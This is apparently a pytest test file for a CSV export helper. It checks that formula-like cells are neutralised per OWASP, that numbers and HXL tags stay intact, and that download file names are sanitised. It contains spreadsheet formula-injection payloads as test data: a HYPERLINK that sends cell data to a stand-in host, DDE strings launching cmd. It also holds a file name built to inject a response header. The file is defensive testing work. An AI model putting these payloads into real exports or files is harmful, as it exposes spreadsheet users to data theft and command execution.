"""The one CSV writer: formulas neutralised (OWASP), numbers left as numbers, HXL tags untouched, streamed."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from coalition.lib.csv_export import csv_chunks, csv_lines, csv_response, safe_cell
from coalition.lib.tests.helpers import saved_name


def _read(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_it_neutralises_a_text_cell_that_starts_like_a_formula(text):
    [row] = _read(csv_lines([[text, "plain"]]))

    assert row == ["'" + text, "plain"]


@pytest.mark.parametrize("number", [-12.5, -7, Decimal("-3.25"), 0, 1e-7])
def test_it_writes_numbers_as_numbers_even_negative_ones(number):
    [row] = _read(csv_lines([[number]]))

    assert row == [str(number)]
    assert safe_cell(number) == number


def test_it_writes_text_in_the_middle_of_which_a_sign_appears_as_it_is():
    [row] = _read(csv_lines([["Ban Nong - north", "a=b", "user@example.org", "Smith & Sons"]]))

    assert row == ["Ban Nong - north", "a=b", "user@example.org", "Smith & Sons"]


def test_it_writes_empty_cells_booleans_and_dates_plainly():
    [row] = _read(csv_lines([[None, True, False, date(2019, 5, 14)]]))

    assert row == ["", "true", "false", "2019-05-14"]


def test_an_hxl_tag_row_stays_a_valid_tag_row():
    lines = csv_lines([["#geo+lat", "#affected+killed"], [-12.5, 3]], header=["latitude", "killed"])

    assert _read(lines) == [["latitude", "killed"], ["#geo+lat", "#affected+killed"], ["-12.5", "3"]]


def test_it_yields_one_line_per_row_so_nothing_is_held_in_memory():
    def rows():
        for index in range(3):
            yield [index, "=x"]

    lines = list(csv_lines(rows(), header=["n", "text"], bom=True))

    assert lines == ["\ufeff", "n,text\r\n", "0,'=x\r\n", "1,'=x\r\n", "2,'=x\r\n"]
    assert list(csv_chunks([["é"]])) == ["é\r\n".encode()]


def test_the_response_streams_csv_under_a_safe_file_name():
    response = csv_response([["=1+1", -12.5]], header=["a", "b"], filename='evil".html;\r\nX: y.csv', bom=True)

    body = b"".join(response.streaming_content).decode("utf-8")
    assert body == "\ufeffa,b\r\n'=1+1,-12.5\r\n"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert saved_name(response) == "evil .html; X: y.csv"
